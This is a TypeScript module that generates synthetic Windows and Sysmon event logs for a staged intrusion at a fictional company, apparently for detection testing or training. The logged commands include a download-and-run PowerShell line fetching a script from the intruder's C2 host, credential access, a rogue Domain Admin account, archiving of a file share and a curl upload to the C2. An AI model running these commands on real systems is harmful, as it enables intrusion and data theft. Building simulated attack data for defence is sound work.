import { ADMIN, HOSTS, IMPLANTED, INTRUDER, PEOPLE, SERVICE, SYSTEM, VICTIM } from './company.ts';
import { fqdn, type SampleWindowsEvent } from './windows-event.ts';
import {
  accountChanged,
  groupMemberAdded,
  logon,
  logonFailed,
  processCreated,
  scriptBlock,
  serviceInstalled,
  sysmonAccess,
  sysmonConnection,
  sysmonFile,
  sysmonProcess,
  sysmonRegistry,
} from './windows-shapes.ts';

const at = (text: string): number => Date.parse(`${text}Z`);
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const IMPLANT = 'C:\\Users\\a.berg\\AppData\\Roaming\\updsvc.exe';
const SCRIPT = `IEX (New-Object Net.WebClient).DownloadString('https://${INTRUDER.c2Name}/a.ps1')`;
const ENCODED = Buffer.from(SCRIPT, 'utf16le').toString('base64');
const { victim, files, dc } = HOSTS;

/** What the intruder did on Windows hosts, as those hosts logged it. */
export function windowsAttack(): SampleWindowsEvent[] {
  const both = (
    when: number,
    who: typeof VICTIM,
    image: string,
    commandLine: string,
    parent: string,
    pid: number,
    on: typeof victim | typeof files = victim,
  ): SampleWindowsEvent[] => [
    sysmonProcess(when, on, who, image, commandLine, parent, pid),
    processCreated(when + 6, on, who, image, commandLine, parent, pid),
  ];
  const discovery = (when: string, command: string, pid: number): SampleWindowsEvent[] =>
    both(at(when), VICTIM, 'C:\\Windows\\System32\\cmd.exe', `cmd.exe /c ${command}`, IMPLANT, pid);

  return [
    ...both(
      at('2026-05-12T09:12:01.310'),
      VICTIM,
      WORD,
      `"${WORD}" /n "C:\\Users\\a.berg\\Downloads\\Invoice_4471.docm"`,
      'C:\\Windows\\explorer.exe',
      5120,
    ),
    ...both(
      at('2026-05-12T09:12:04.113'),
      VICTIM,
      POWERSHELL,
      `powershell.exe -nop -w hidden -enc ${ENCODED}`,
      WORD,
      5344,
    ),
    scriptBlock(at('2026-05-12T09:12:05.020'), victim, SCRIPT),
    sysmonConnection(
      at('2026-05-12T09:12:05.480'),
      victim,
      VICTIM,
      POWERSHELL,
      INTRUDER.c2,
      INTRUDER.c2Name,
      443,
      5344,
    ),
    sysmonFile(at('2026-05-12T09:12:09.702'), victim, POWERSHELL, IMPLANT, 5344),
    ...both(
      at('2026-05-12T09:12:11.054'),
      VICTIM,
      IMPLANT,
      `"${IMPLANT}" -k netsvcs`,
      POWERSHELL,
      5604,
    ),
    sysmonRegistry(
      at('2026-05-12T09:12:12.400'),
      victim,
      IMPLANT,
      'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate',
      IMPLANT,
      5604,
    ),
    ...Array.from({ length: 96 }, (_, i) =>
      sysmonConnection(
        at('2026-05-12T09:17:00') + i * 600_000 + ((i * 7919) % 23_000),
        victim,
        VICTIM,
        IMPLANT,
        INTRUDER.c2,
        INTRUDER.c2Name,
        443,
        5604,
      ),
    ),
    ...discovery('2026-05-12T09:41:10', 'whoami /all', 6012),
    ...discovery('2026-05-12T09:41:32', 'net group "Domain Admins" /domain', 6044),
    ...discovery('2026-05-12T09:42:05', 'nltest /dclist:lindholm.example', 6076),
    ...discovery('2026-05-12T09:44:51', 'dir \\\\FS01\\contracts', 6108),
    sysmonAccess(
      at('2026-05-12T10:05:18.250'),
      victim,
      IMPLANT,
      'C:\\Windows\\system32\\lsass.exe',
      5604,
    ),
    sysmonFile(at('2026-05-12T10:05:21.900'), victim, IMPLANT, 'C:\\Windows\\Temp\\d1.tmp', 5604),
    ...Array.from({ length: 46 }, (_, i) =>
      logonFailed(
        at('2026-05-12T13:02:00') + i * 1_900,
        dc,
        i % 3 === 0 ? 'svc_backup' : (PEOPLE[i % PEOPLE.length]?.account ?? 'guest'),
        victim,
      ),
    ),
    logon(at('2026-05-12T13:20:44.871'), files, SERVICE, 3, victim, 0x9a3c1),
    serviceInstalled(
      at('2026-05-12T13:20:47.020'),
      files,
      'PSEXESVC',
      '%SystemRoot%\\PSEXESVC.exe',
    ),
    ...both(
      at('2026-05-12T13:21:02.600'),
      SYSTEM,
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe /c dir D:\\Shares\\Contracts /s',
      'C:\\Windows\\PSEXESVC.exe',
      3312,
      files,
    ),
    logon(at('2026-05-12T13:34:09.118'), dc, ADMIN, 3, victim, 0xb71f4),
    accountChanged(at('2026-05-12T13:36:30.402'), dc, 4720, IMPLANTED, ADMIN),
    accountChanged(at('2026-05-12T13:36:30.455'), dc, 4722, IMPLANTED, ADMIN),
    groupMemberAdded(at('2026-05-12T13:36:58.911'), dc, 'Domain Admins', IMPLANTED, ADMIN),
    logon(at('2026-05-13T01:58:03.377'), files, IMPLANTED, 3, victim, 0xc40aa),
    ...both(
      at('2026-05-13T02:01:12.009'),
      IMPLANTED,
      'C:\\ProgramData\\7z.exe',
      '7z.exe a -pS3cur1ty -v200m C:\\ProgramData\\c.7z D:\\Shares\\Contracts',
      'C:\\Windows\\System32\\cmd.exe',
      4410,
      files,
    ),
    ...both(
      at('2026-05-13T02:19:40.730'),
      IMPLANTED,
      'C:\\Windows\\System32\\curl.exe',
      `curl.exe -T C:\\ProgramData\\c.7z.001 https://${INTRUDER.c2Name}/u/`,
      'C:\\Windows\\System32\\cmd.exe',
      4488,
      files,
    ),
    sysmonConnection(
      at('2026-05-13T02:19:41.301'),
      files,
      IMPLANTED,
      'C:\\Windows\\System32\\curl.exe',
      INTRUDER.c2,
      INTRUDER.c2Name,
      443,
      4488,
    ),
    {
      at: at('2026-05-13T03:31:15.640'),
      computer: fqdn(victim.name),
      source: 'eventlog',
      eventId: 1102,
      level: 4,
      data: [
        ['SubjectUserSid', IMPLANTED.sid],
        ['SubjectUserName', IMPLANTED.account],
        ['SubjectDomainName', 'LINDHOLM'],
        ['SubjectLogonId', '0xc51b0'],
      ],
    },
    {
      at: at('2026-05-13T08:05:27.118'),
      computer: fqdn(victim.name),
      source: 'defender',
      eventId: 1116,
      level: 3,
      data: [
        ['Product Name', 'Microsoft Defender Antivirus'],
        ['Threat Name', 'Trojan:Win64/Updsvc.A'],
        ['Severity Name', 'Severe'],
        ['Category Name', 'Trojan'],
        ['Path', `file:_${IMPLANT}`],
        ['Detection User', 'LINDHOLM\\a.berg'],
        ['Process Name', 'C:\\Windows\\explorer.exe'],
      ],
    },
    accountChanged(at('2026-05-13T08:41:02.560'), dc, 4725, IMPLANTED, ADMIN),
    accountChanged(at('2026-05-13T08:42:19.004'), dc, 4725, SERVICE, ADMIN),
    accountChanged(at('2026-05-13T08:43:55.213'), dc, 4725, VICTIM, ADMIN),
  ];
}
